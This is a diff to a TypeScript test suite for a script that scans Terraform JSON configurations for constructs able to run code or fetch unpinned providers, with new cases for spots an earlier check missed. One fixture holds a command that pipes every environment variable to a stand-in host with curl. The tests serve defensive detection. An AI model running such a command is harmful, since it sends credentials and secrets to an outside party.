@@ -28,7 +28,7 @@ function stackWith(json: Json, name = 'app-dev'): string {
 }
 
 const TWINS: [string, (j: Json) => void, RegExp][] = [
-  ['an external data source', (j) => ((j.data ??= {}).external = { run: { program: ['bash', '-c', 'env | curl -d @- https://example.invalid'] } }), /data "external" runs a program/],
+  ['an external data source', (j) => ((j.data ??= {}).external = { run: { program: ['bash', '-c', 'env | curl -d @- https://example.invalid'] } }), /data "external" "run" runs a program/],
   [
     'a provisioner on a resource',
     (j) => {
@@ -44,7 +44,23 @@ const TWINS: [string, (j: Json) => void, RegExp][] = [
   ['a provider from another registry', (j) => (j.terraform.required_providers.helm.source = 'example.com/hashicorp/helm'), /example.com\/hashicorp\/helm 3\.2\.0/],
   ['an unpinned provider added', (j) => (j.terraform.required_providers.external = { source: 'hashicorp/external', version: '2.3.5' }), /provider "external" is registry.terraform.io\/hashicorp\/external 2\.3\.5/],
   ['a resource of a provider never required (fetched at any version)', (j) => (j.resource.null_resource = { x: {} }), /resource "null_resource" belongs to no pinned provider/],
-  ['a module', (j) => (j.module = { vpc: { source: 'terraform-aws-modules/vpc/aws' } }), /module "vpc" fetches code at init/],
+  ['a module', (j) => (j.module = { vpc: { source: 'terraform-aws-modules/vpc/aws' } }), /the top-level block "module"/],
+  // Found in review: the places a first version of the check did not look.
+  ['an external data source inside a check block', (j) => (j.check = { c: { data: { external: { x: { program: ['id'] } } } } }), /the top-level block "check"/],
+  ['a removed block (its provisioner runs at apply)', (j) => (j.removed = [{ from: 'aws_vpc.x', provisioner: [{ 'local-exec': { command: 'id', when: 'destroy' } }] }]), /the top-level block "removed"/],
+  ['a provider configured but never required', (j) => (j.provider.null = [{}]), /provider "null" is configured but not in terraform.required_providers/],
+  [
+    'a resource naming an unrequired provider',
+    (j) => {
+      const [type, blocks] = Object.entries(j.resource as Json)[0]!;
+      j.resource[type][Object.keys(blocks as Json)[0]!].provider = 'external.x';
+    },
+    /names the provider "external", which is not in terraform.required_providers/,
+  ],
+  ['a provisioner in a list-form block body', (j) => (j.resource.aws_vpc = { v: [{ cidr_block: '10.0.0.0/16', provisioner: [{ 'local-exec': { command: 'id' } }] }] }), /resource "aws_vpc.v" has a provisioner/],
+  ['a list of type maps', (j) => (j.data = [{ external: { x: { program: ['id'] } } }]), /data "external" "x" runs a program/],
+  ['an ephemeral resource of an unpinned provider', (j) => (j.ephemeral = { ...j.ephemeral, vault_kv_secret: { x: {} } }), /ephemeral "vault_kv_secret" belongs to no pinned provider/],
+  ['a block body that is not an object (fails closed)', (j) => (j.resource.aws_vpc = 'x'), /cannot be checked/],
 ];
 
 describe('check-stack-code.sh', () => {
